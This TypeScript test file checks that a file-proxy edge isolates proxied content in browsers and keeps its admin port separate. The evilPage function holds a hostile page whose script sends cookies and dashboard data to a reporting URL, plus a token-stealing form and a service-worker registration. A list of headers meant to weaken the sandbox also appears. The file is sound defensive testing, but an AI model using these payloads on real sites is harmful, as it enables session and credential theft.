/** Proxied files in a browser: they come from the edge's address, but never act as its pages. */

import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { signLink } from '@millrace/shared/node/link-signature';
import type { Browser, Page } from 'playwright-core';
import { launch } from 'puppeteer-core';
import { H2Client } from '../../fixtures/clients/h2-client.ts';
import { type Fetched, fetchAll } from '../../fixtures/clients/http-client.ts';
import { makeCertificate } from '../../fixtures/origins/certificate.ts';
import { contentOf, sha256 } from '../../fixtures/origins/content.ts';
import { FileServer } from '../../fixtures/origins/file-server.ts';
import { isLive, logIn, openPage } from '../../fixtures/pages/edge-pages.ts';
import { FIREFOX, firefoxOrComplain } from '../../fixtures/pages/firefox.ts';
import { browserOrComplain, launchBrowser } from '../../fixtures/pages/ui.ts';
import { EdgeProcess, temporaryFolder } from '../../fixtures/programs/processes.ts';
import { testsWhere } from '../../fixtures/tests-where.ts';
import { LONGEST_WAIT_MS, until } from '../../fixtures/until.ts';

const withBrowser = testsWhere(browserOrComplain('files of strangers in a browser'));
const withFirefox = testsWhere(firefoxOrComplain('saving a file of an edge with Firefox'));

const NAME = 'edge-of-strangers';
const TOKEN = 'correct-horse-battery-staple';
const SECRET = 'the secret of signed links';
const CHUNK = 64 * 1024;
const DISK_IMAGE = contentOf('a disk image', 3 * CHUNK);
const OPTIONS = ['--allow-origin', '127.0.0.1', '--chunk-size', '64KiB'];
/** Fields that an origin might send to get its page out of the sandbox. */
const WEAKENING = {
  'content-security-policy': 'sandbox allow-scripts allow-same-origin; script-src *',
  'content-security-policy-report-only': 'sandbox',
  'x-content-type-options': 'sniff',
  'service-worker-allowed': '/',
  'access-control-allow-origin': '*',
  'cross-origin-resource-policy': 'cross-origin',
};

let folder: Awaited<ReturnType<typeof temporaryFolder>>;
let origin: FileServer;
let edge: EdgeProcess;
let cert: string;
/** A browser for all tests: each opens a window that shares nothing with others. */
let browser: Browser;

withBrowser.beforeAll(async () => {
  browser = await launchBrowser();
});
withBrowser.afterAll(() => browser?.close());

beforeAll(async () => {
  [folder, origin] = await Promise.all([temporaryFolder(), FileServer.start()]);
  const at = (name: string) => join(folder.path, name);
  await writeFile(at('token'), TOKEN);
  await writeFile(at('secrets'), SECRET);
  const pair = makeCertificate(folder.path, 'edge');
  ({ cert } = pair);
  const octets = { ...WEAKENING, 'content-type': 'application/octet-stream' };
  origin.add('/image.iso', { body: DISK_IMAGE, headers: octets });
  origin.add('/tunnel.iso', { body: DISK_IMAGE, headers: octets, noRanges: true });
  origin.add('/private.iso', {
    body: DISK_IMAGE,
    headers: { ...octets, 'cache-control': 'no-store' },
  });
  edge = await EdgeProcess.start([
    ...[
      '--name',
      NAME,
      '--tls-cert',
      pair.cert,
      '--tls-key',
      pair.key,
      '--http-port',
      '0',
      ...OPTIONS,
    ],
    ...['--admin-token-file', at('token'), '--link-secret-file', at('secrets')],
  ]);
});

afterAll(async () => {
  await edge?.stop('SIGKILL');
  await origin.stop();
  await folder.remove();
});

describe('every answer to a prefixed URL keeps browsers from treating it as a page of the edge', () => {
  const image = (path = '/image.iso') => origin.url(path);
  const expectIsolated = ({ status, headers }: Fetched, expected: number) => {
    const { 'content-security-policy': policy, 'x-content-type-options': sniffing } = headers;
    expect({ status, policy, sniffing }).toEqual({
      status: expected,
      policy: 'sandbox allow-downloads',
      sniffing: 'nosniff',
    });
    for (const name of Object.keys(WEAKENING).slice(3)) expect(headers[name]).toBeUndefined();
    expect(headers['content-security-policy-report-only']).toBeUndefined();
  };
  const signed = () => {
    const permit = signLink(new URL(image()), 4e9, false, SECRET);
    return `-/signed/${permit}/${image()}`;
  };
  const get = (url: string, headers: Record<string, string> = {}, method = 'GET') =>
    fetchAll(edge.prefixed(url), { headers, method });

  test.each<[string, number, () => Promise<Fetched>]>([
    ['a whole file', 200, () => get(image())],
    ['a header alone', 200, () => get(image(), {}, 'HEAD')],
    ['a range', 206, () => get(image(), { range: 'bytes=5-9' })],
    ['several ranges', 206, () => get(image(), { range: 'bytes=5-9,20-30' })],
    [
      'ranges out of order',
      206,
      () => get(image(), { range: 'bytes=0-', prefer: 'delivery=out-of-order' }),
    ],
    ['a range beyond the end', 416, () => get(image(), { range: 'bytes=999999999-' })],
    ['a condition that fails', 412, () => get(image(), { 'if-match': '"other"' })],
    ['an origin that knows no ranges', 200, () => get(image('/tunnel.iso'))],
    ['an origin that forbids caches', 200, () => get(image('/private.iso'))],
    ['a file that is not there', 404, () => get(image('/none'))],
    ['an origin that is not served', 403, () => get('http://localhost/x')],
    ['a target that is not a URL', 400, () => get('http://user:word@127.0.0.1/x')],
    ['a method that is not taken', 405, () => get(image(), {}, 'PUT')],
    ['a method nobody knows', 405, () => get(image(), {}, 'PROPFIND')],
    ['a loop', 508, () => get(image(), { via: `1.1 ${NAME}` })],
    ['a request like a node’s from a client', 403, () => get(image(), { 'x-bigfile': '1' })],
    ['a signed link', 200, () => get(signed())],
    ['a signed link that is wrong', 403, () => get(signed().replace(/.iso$/, '.is'))],
  ])('%s: %d', async (_, status, fetched) => expectIsolated(await fetched(), status));

  test('a cached copy that is still valid: 304', async () => {
    const { etag } = (await get(image())).headers;
    expectIsolated(await get(image(), { 'if-none-match': String(etag) }), 304);
  });

  test('over HTTP/2', async () => {
    const client = await H2Client.connect(edge.secureUrl, cert);
    try {
      expectIsolated(await client.fetch(`/${image()}`), 200);
      expectIsolated(await client.fetch(`/${image('/tunnel.iso')}`), 200);
      expectIsolated(await client.fetch(`/${image('/none')}`), 404);
    } finally {
      await client.close();
    }
  });
});

describe('links that an origin sends', () => {
  const link = [
    '<https://edge.evil.example/>; rel="https://millrace.dev/rel/edge"',
    '</mirror.iso>; rel="duplicate HTTPS://millrace.dev/rel/edge"; pri=1',
    '</-/dashboard>; rel=preload; as=script',
  ].join(', ');
  const rebuilt = () => `<${origin.url('/mirror.iso')}>; rel="duplicate"; pri="1"`;

  test.each<[string, object, Record<string, string>, number]>([
    ['a file in chunks', {}, {}, 200],
    ['a range', {}, { range: 'bytes=5-9' }, 206],
    ['several ranges', {}, { range: 'bytes=5-9,20-30' }, 206],
    ['ranges out of order', {}, { range: 'bytes=0-', prefer: 'delivery=out-of-order' }, 206],
    ['a tunnel', { noRanges: true }, {}, 200],
    ['a tunnelled range', { etag: null }, { range: 'bytes=0-' }, 206],
  ])(
    'name mirrors by their absolute address, and no edges: %s',
    async (name, how, headers, status) => {
      const url = origin.add(`/linked-${encodeURIComponent(name)}`, {
        body: DISK_IMAGE,
        headers: { link },
        ...how,
      });
      // First from the origin, then from the cache if the edge has kept the file.
      for (let i = 0; i < 2; i++) {
        const got = await fetchAll(edge.prefixed(url), { headers });
        expect([got.status, got.headers.link]).toEqual([status, rebuilt()]);
      }
    },
  );
});

describe('a separate port for administration', () => {
  const admin = async (started: EdgeProcess) => {
    const found = () => /"admin":"([^"]+)"/.exec(started.log.join('\n'))?.[1];
    await until(() => found() !== undefined);
    return found() as string;
  };
  const start = (...options: string[]) =>
    EdgeProcess.start([
      ...[...OPTIONS, '--admin-token-file', join(folder.path, 'token'), '--admin-port', '0'],
      ...options,
    ]);
  const statuses = async (base: string, paths: readonly string[], method = 'GET') => {
    const headers = { authorization: `Bearer ${TOKEN}` };
    const got = paths.map((path) => fetchAll(base + path, { method, headers }));
    return (await Promise.all(got)).map(({ status }) => status);
  };
  const pages = ['/-/dashboard', '/-/dashboard/data', '/-/pins', '/-/prefetch'];

  test('has the dashboard and administration, which the other port lacks in every spelling', async () => {
    const separate = await start('--workers', '2');
    try {
      const [clients, operators] = [separate.url, await admin(separate)];
      expect(await statuses(operators, pages)).toEqual([200, 200, 200, 200]);
      expect(await statuses(operators, ['/-/status', '/-/metrics', '/-/live'])).toEqual([
        200, 200, 200,
      ]);
      expect(await statuses(operators, ['/-/drain'], 'DELETE')).toEqual([200]);
      const spellings = [
        ...pages,
        '/-/%64ashboard',
        '/-/dashboard?x',
        '/-/dashboard/',
        '/-/pins/x',
      ];
      expect(new Set(await statuses(clients, spellings))).toEqual(new Set([404]));
      const posted = ['/-/drain', '/-/purge', '/-/prefetch', '/-/pins', '/-/dashboard/login'];
      expect(new Set(await statuses(clients, posted, 'POST'))).toEqual(new Set([404]));
      const others = [`/${origin.url('/image.iso')}`, '/-/edges', '/-/metalink?link=x', '/-/check'];
      expect(new Set(await statuses(operators, others))).toEqual(new Set([404]));
      const files = [`/${origin.url('/image.iso')}`, '/', '/-/status', '/-/edges'];
      expect(new Set(await statuses(clients, files))).toEqual(new Set([200]));
      const front = await fetchAll(`${operators}/`);
      expect([front.status, front.headers.location]).toEqual([303, '/-/dashboard']);
      expect((await separate.status()).draining).toBe(false);
    } finally {
      await separate.stop('SIGKILL');
    }
  });

  test('has TLS when the edge has', async () => {
    const separate = await start('--tls-cert', cert, '--tls-key', join(folder.path, 'edge.key'));
    try {
      const client = await H2Client.connect(await admin(separate), cert);
      expect((await client.fetch('/-/dashboard')).status).toBe(401);
      expect((await client.fetch(`/${origin.url('/image.iso')}`)).status).toBe(404);
      await client.close();
    } finally {
      await separate.stop('SIGKILL');
    }
  });

  withBrowser.test('is where operators log in', async () => {
    const separate = await start();
    const { context, page } = await openPage(browser);
    try {
      await logIn(page, { url: await admin(separate) }, TOKEN);
      await isLive(page);
    } finally {
      await context.close();
      await separate.stop('SIGKILL');
    }
  });
});

describe('a redirect to TLS', () => {
  test('is isolated like the answer it leads to', async () => {
    const at = (name: string) => join(folder.path, name);
    const redirecting = await EdgeProcess.start([
      ...['--tls-cert', cert, '--tls-key', at('edge.key'), '--http-port', '0'],
      ...['--http-answers', 'redirect', ...OPTIONS],
    ]);
    try {
      const { status, headers } = await fetchAll(redirecting.prefixed(origin.url('/image.iso')));
      expect([status, headers['content-security-policy']]).toEqual([
        308,
        'sandbox allow-downloads',
      ]);
    } finally {
      await redirecting.stop('SIGKILL');
    }
  });
});

/** Servers of a page that links to a file: the page's own site, and the edge. */
const LISTS: [by: string, addressOf: (url: string) => string][] = [
  ['another site', (url) => url],
  ['a proxied page', (url) => edge.prefixed(url)],
];

/** Adds a page that links to a file behind the edge. @returns the page's address at the origin */
function addList(path: string): string {
  const body = Buffer.from(
    `<!doctype html><title>files</title><a href="${edge.prefixed(origin.url(path))}">image.iso</a>`,
  );
  return origin.add('/index.html', { body, headers: { 'content-type': 'text/html' } });
}

/**
 * Returns a page that tries everything that a page of the edge may do, and reports successes to its
 * origin.
 */
function evilPage(tell: string): string {
  return `<!doctype html><title>evil</title>
<p id="token">Administration token</p>
<form id="form" action="/-/dashboard/login" method="post"><input name="token" value="${TOKEN}">
<button>Log in</button></form>
<form id="steal" action="${tell}?form"><input name="token"><button>Log in again</button></form>
<iframe name="dashboard" src="/-/dashboard"></iframe>
<script src="/${tell.replace('tell', 'evil.js')}"></script>
<script>
document.title = 'script ran';
new Image().src = '${tell}?script&cookie=' + document.cookie;
fetch('/-/dashboard/data', { credentials: 'include' }).then((r) => r.text()).then((text) => {
  new Image().src = '${tell}?data=' + text.length;
});
fetch('/-/status').then(() => { new Image().src = '${tell}?status'; });
navigator.serviceWorker.register('/${tell.replace('tell', 'evil.js')}', { scope: '/' });
</script>
<meta http-equiv="refresh" content="0;url=${tell}?refresh">
<img src="/${tell.replace('tell', 'seen.svg')}">`;
}

withBrowser.describe('in Chromium', () => {
  withBrowser.beforeAll(async () => {
    origin.add('/evil.js', {
      body: Buffer.from(`globalThis.evil = true; if (globalThis.document) document.title = 'ran';`),
      headers: { ...WEAKENING, 'content-type': 'text/javascript' },
    });
    origin.add('/evil.html', {
      body: Buffer.from(evilPage(origin.url('/tell'))),
      headers: { ...WEAKENING, 'content-type': 'text/html' },
    });
  });

  /** Lists the requests by which the evil page has reported successes. */
  const told = () => origin.requests.map(({ url }) => url).filter((url) => /tell/.test(url ?? ''));
  const loggedIn = async () => {
    const { context, page } = await openPage(browser);
    await logIn(page, edge, TOKEN);
    await isLive(page);
    return { context, page };
  };
  /** Presses a form's button. Resolves when the browser reports that it has blocked the form. */
  const pressInVain = (page: Page, form: string) =>
    Promise.all([
      page.waitForEvent('console', (message) => /Blocked form submission/.test(message.text())),
      page.locator(`${form} button`).click(),
    ]);

  withBrowser.test(
    'a proxied page runs no script, reads no figure, sends no form, and frames no dashboard',
    async () => {
      const { context, page } = await loggedIn();
      const cookies = await context.cookies();
      expect(cookies).toHaveLength(1);
      await page.goto(edge.prefixed(origin.url('/evil.html')), { waitUntil: 'load' });
      await until(() => origin.requests.some(({ url }) => url === '/seen.svg'));
      expect(await page.title()).toBe('evil');
      expect(await page.evaluate(() => [self.origin, 'evil' in globalThis])).toEqual([
        'null',
        false,
      ]);
      expect(await page.evaluate(() => document.scripts.length)).toBe(2);
      const framed = page.frames().find((frame) => frame.name() === 'dashboard');
      expect(await framed?.content()).not.toMatch(/Dashboard|Administration token/);
      for (const form of ['#form', '#steal']) await pressInVain(page, form);
      expect(told()).toEqual([]);
      expect(await context.cookies()).toEqual(cookies);
      await context.close();
    },
  );

  withBrowser.test(
    'the dashboard loads no script of a stranger, though its origin is the same',
    async () => {
      const { context, page } = await loggedIn();
      const outcome = await page.evaluate(
        (src) =>
          new Promise((resolve) => {
            const script = document.createElement('script');
            script.onload = () => resolve('loaded');
            script.onerror = () => resolve('refused');
            script.src = src;
            document.head.append(script);
          }),
        `/${origin.url('/evil.js')}`,
      );
      expect([outcome, await page.evaluate(() => 'evil' in globalThis)]).toEqual([
        'refused',
        false,
      ]);
      await context.close();
    },
  );

  withBrowser.test(
    'nothing becomes a service worker, not even for a page of the edge',
    async () => {
      const { context, page } = await loggedIn();
      const failed = await page.evaluate(
        (src) =>
          navigator.serviceWorker.register(src, { scope: '/' }).then(
            () => 'registered',
            (error: Error) => error.name,
          ),
        `/${origin.url('/evil.js')}`,
      );
      expect(failed).not.toBe('registered');
      const { status } = await fetchAll(edge.prefixed(origin.url('/evil.js')), {
        headers: { 'service-worker': 'script' },
      });
      expect(status).toBe(400);
      await context.close();
    },
  );

  withBrowser.test.each(['/image.iso', '/tunnel.iso'])(
    'a file that is opened by its address is saved: %s',
    async (path) => {
      const { context, page } = await openPage(browser);
      const saved = page.waitForEvent('download');
      // The tab starts a download instead of navigating, so `goto` fails.
      await page.goto(edge.prefixed(origin.url(path))).catch(() => {});
      const file = await (await saved).path();
      expect(sha256(await readFile(file))).toBe(sha256(DISK_IMAGE));
      await context.close();
    },
  );

  withBrowser.test.each(LISTS)('a file that %s links to is saved', async (_, addressOf) => {
    const { context, page } = await openPage(browser);
    await page.goto(addressOf(addList('/image.iso')));
    const saved = page.waitForEvent('download');
    await page.getByText('image.iso').click();
    expect(sha256(await readFile(await (await saved).path()))).toBe(sha256(DISK_IMAGE));
    await context.close();
  });
});

withFirefox.describe('Firefox saves a file', () => {
  let firefox: Awaited<ReturnType<typeof launch>>;
  withFirefox.beforeAll(async () => {
    firefox = await launch({
      browser: 'firefox',
      executablePath: FIREFOX,
      headless: true,
      timeout: LONGEST_WAIT_MS,
      env: { ...process.env, HOME: folder.path },
      extraPrefsFirefox: {
        'browser.download.folderList': 2,
        'browser.download.dir': folder.path,
        'browser.helperApps.neverAsk.saveToDisk': 'application/octet-stream',
      },
    });
  });
  withFirefox.afterAll(() => firefox?.close());

  const isSaved = async (name: string) => {
    const saved = () => readFile(join(folder.path, name)).catch(() => Buffer.alloc(0));
    await until(async () => (await saved()).length === DISK_IMAGE.length);
    expect(sha256(await saved())).toBe(sha256(DISK_IMAGE));
  };

  withFirefox.test('that is opened by its address', async () => {
    const page = await firefox.newPage();
    // The browser opens no page that could be waited for.
    page.goto(edge.prefixed(origin.url('/image.iso')), { timeout: 0 }).catch(() => {});
    await isSaved('image.iso');
  });

  withFirefox.test.each(LISTS)('that %s links to', async (by, addressOf) => {
    const name = `${by.replaceAll(' ', '-')}.iso`;
    const headers = { 'content-type': 'application/octet-stream' };
    origin.add(`/${name}`, { body: DISK_IMAGE, headers });
    const page = await firefox.newPage();
    page.setDefaultTimeout(LONGEST_WAIT_MS);
    await page.goto(addressOf(addList(`/${name}`)));
    await page.click('a');
    await isSaved(name);
  });
});

withBrowser.describe('an edge of one user', () => {
  let own: EdgeProcess;
  let token: string;
  withBrowser.beforeAll(async () => {
    const file = join(folder.path, 'local-token');
    own = await EdgeProcess.start([...OPTIONS, '--local-token-file', file]);
    token = (await readFile(file, 'utf8')).trim();
    const body = Buffer.from('{"of":"the user"}');
    origin.add('/secret', { body, headers: { 'content-type': 'application/json' } });
    const page = Buffer.from('<!doctype html><title>any site</title>');
    origin.add('/site.html', { body: page, headers: { 'content-type': 'text/html' } });
  });
  withBrowser.afterAll(() => own?.stop('SIGKILL'));

  withBrowser.test('gives pages of other sites nothing, whatever way they ask', async () => {
    const { context, page } = await openPage(browser);
    await page.goto(origin.url('/site.html'));
    const fetches = () => origin.requests.filter(({ url }) => url === '/secret').length;
    const before = fetches();
    const paths = [`/${origin.url('/secret')}`, '/-/status', '/-/edges', '/-/metrics', '/'];
    for (const path of paths) {
      const outcomes = await page.evaluate(
        (url) =>
          Promise.all([
            ...(['cors', 'no-cors'] as const).map((mode) =>
              fetch(url, { mode, credentials: 'include' }).then(
                ({ type }) => type,
                () => 'failed',
              ),
            ),
            ...['img', 'script', 'link', 'video'].map(
              (tag) =>
                new Promise((resolve) => {
                  const element = document.createElement(tag);
                  element.onload = () => resolve('loaded');
                  element.onerror = () => resolve('failed');
                  Object.assign(
                    element,
                    tag === 'link' ? { rel: 'stylesheet', href: url } : { src: url },
                  );
                  document.body.append(element);
                }),
            ),
          ]),
        own.url + path,
      );
      expect({ path, outcomes: new Set(outcomes) }).toEqual({
        path,
        outcomes: new Set(['failed']),
      });
    }
    expect(fetches()).toBe(before);
    const refused = await fetchAll(own.prefixed(origin.url('/secret')), {
      headers: { 'sec-fetch-site': 'cross-site' },
    });
    expect([refused.status, JSON.parse(refused.body.toString()).code]).toEqual([403, 'other-site']);
    await context.close();
  });

  withBrowser.test('admits its user by a typed address, and programs with the token', async () => {
    const { context, page } = await openPage(browser);
    await page.goto(own.prefixed(origin.url('/secret')));
    expect(await page.textContent('body')).toContain('of');
    const headers = { 'x-millrace-token': token, origin: 'https://evil.example' };
    const { status } = await fetchAll(own.prefixed(origin.url('/secret')), { headers });
    expect(status).toBe(200);
    await page.goto(`${own.url}/`);
    await page.getByRole('textbox').fill(origin.url('/secret'));
    await page.keyboard.press('Enter');
    await page.waitForURL(/link=/);
    await context.close();
  });

  withBrowser.test('answers nothing to a name that was pointed at it, on any path', async () => {
    const headers = { host: 'rebound.example' };
    for (const path of ['/-/status', '/-/edges', '/-/metrics', '/-/live', '/-/dashboard', '/']) {
      const { status, headers: answered } = await fetchAll(own.url + path, { headers });
      expect([path, status, answered['access-control-allow-origin']]).toEqual([
        path,
        421,
        undefined,
      ]);
    }
  });
});
